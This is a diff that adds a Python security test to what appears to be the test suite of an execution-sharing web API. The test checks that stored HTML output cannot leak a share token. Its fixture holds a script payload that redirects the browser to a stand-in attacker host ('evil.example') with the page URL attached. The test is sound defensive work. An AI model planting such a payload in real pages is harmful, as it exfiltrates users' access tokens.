@@ -63,6 +63,24 @@ async def test_whoever_has_the_address_reads_all_of_one_execution(
     assert token not in str(seen)
 
 
+async def test_what_a_program_wrote_never_runs_where_it_can_read_the_address(
+    client: httpx.AsyncClient, anonymous: httpx.AsyncClient, submit: Submit, hand: Hand
+) -> None:
+    execution = await submit()
+    await hand.start(execution)
+    await hand.keep_outputs(execution, {"a.html": b"<script>location = 'http://evil.example/?' + location</script>"})
+    own = f"/v1/executions/{execution}"
+    token = (await share(client, own))["token"]
+    page, header = f"{own}/previews/a.html?as=page", {"Authorization": f"Bearer {token}"}
+    assert (await anonymous.get(page, headers=header)).status_code == 200
+    for query in (f"share={token}", "share=trs_", "ticket=x"):
+        answer = await anonymous.get(f"{page}&{query}", headers={} if token in query else header)
+        assert (answer.status_code, token in answer.text) == (403, False)
+    download = await anonymous.get(f"{own}/outputs/a.html?share={token}")
+    assert download.headers["content-disposition"].startswith("attachment")
+    assert "sandbox" in download.headers["content-security-policy"]
+
+
 async def test_a_revoked_one_shows_nothing_and_who_watches_is_cut(
     api: Api, client: httpx.AsyncClient, anonymous: httpx.AsyncClient, submit: Submit
 ) -> None:
